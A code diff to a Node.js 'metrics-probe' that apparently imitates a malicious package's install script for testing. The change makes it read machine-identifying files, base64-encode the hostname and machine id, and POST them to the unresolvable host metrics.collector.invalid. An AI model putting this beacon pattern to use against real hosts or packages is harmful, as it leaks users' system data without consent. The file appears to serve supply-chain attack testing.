@@ -1,10 +1,10 @@
 // SPDX-License-Identifier: Apache-2.0
-// Does what the install script of a malicious package does first: it finds out where it is. What it learns goes
-// nowhere: nothing is written or sent, and the name it looks up at the end cannot exist (RFC 6761).
+// Does what the install script of a malicious package does first: it finds out where it is, and sends that home.
+// Nothing is written, and home cannot exist (RFC 6761): outside of a sealed network, which plays it, nothing is sent.
 'use strict'
 
 const { readFileSync } = require('node:fs')
-const { lookup } = require('node:dns')
+const { request } = require('node:http')
 const os = require('node:os')
 
 const files = [
@@ -17,15 +17,21 @@ const files = [
 
 function look(path) {
   try {
-    return readFileSync(path).length
+    return readFileSync(path, 'utf8')
   } catch {
-    return 0 // not every system has every file
+    return '' // not every system has every file
   }
 }
 
-const seen = files.map(look).filter((size) => size > 0).length
-os.hostname()
+const seen = files.map(look)
+const facts = Buffer.from(JSON.stringify({ host: os.hostname(), machine: seen[0].trim() })).toString('base64')
+const done = () => {
+  const count = seen.filter((text) => text).length
+  console.log(`metrics-probe: read ${count} files that tell machines apart, kept nothing`)
+}
 
-lookup('metrics.collector.invalid', () => {
-  console.log(`metrics-probe: read ${seen} files that tell machines apart, kept nothing`)
+const beacon = request({ host: 'metrics.collector.invalid', path: '/hello', method: 'POST' }, (answer) => {
+  answer.resume().on('end', done)
 })
+beacon.on('error', done)
+beacon.end(facts)
